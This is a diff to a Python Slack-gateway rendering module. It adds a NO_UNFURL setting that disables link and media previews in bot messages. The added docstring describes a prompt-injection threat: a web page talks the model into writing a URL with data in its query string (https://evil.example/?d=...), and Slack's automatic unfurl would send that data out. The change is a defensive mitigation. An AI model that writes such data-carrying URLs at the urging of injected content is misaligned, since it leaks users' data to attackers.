@@ -8,11 +8,17 @@ characters but truncates and folds long messages; chunks of 3,500 characters sta
 and leave room for the little that conversion adds. Deterministic: a retry yields the same
 parts. A conversion failure sends the chunk as written rather than losing it. A message's
 verbatim block (approval prompts) skips conversion: :func:`render_message`.
+
+No link or media in a message the bot posts or updates is unfurled (:data:`NO_UNFURL`):
+Slack would fetch it at once, no click needed, so an address holding data
+(``https://evil.example/?d=...``) that a page talked the model into writing would carry it
+out (docs/security.md). ``chat.update`` documents no such arguments; they are sent there too.
 """
 
 from __future__ import annotations
 
 import logging
+from typing import Final, TypedDict
 
 from slackify_markdown import slackify_markdown  # type: ignore[import-untyped]
 
@@ -23,6 +29,14 @@ from gateway.core.text.verbatim import unclosable
 log = logging.getLogger(__name__)
 
 CHUNK = 3_500
+
+
+class Unfurl(TypedDict):
+    unfurl_links: bool
+    unfurl_media: bool
+
+
+NO_UNFURL: Final[Unfurl] = {"unfurl_links": False, "unfurl_media": False}
 
 
 def render(markdown: str, *, limit: int = CHUNK) -> list[str]:
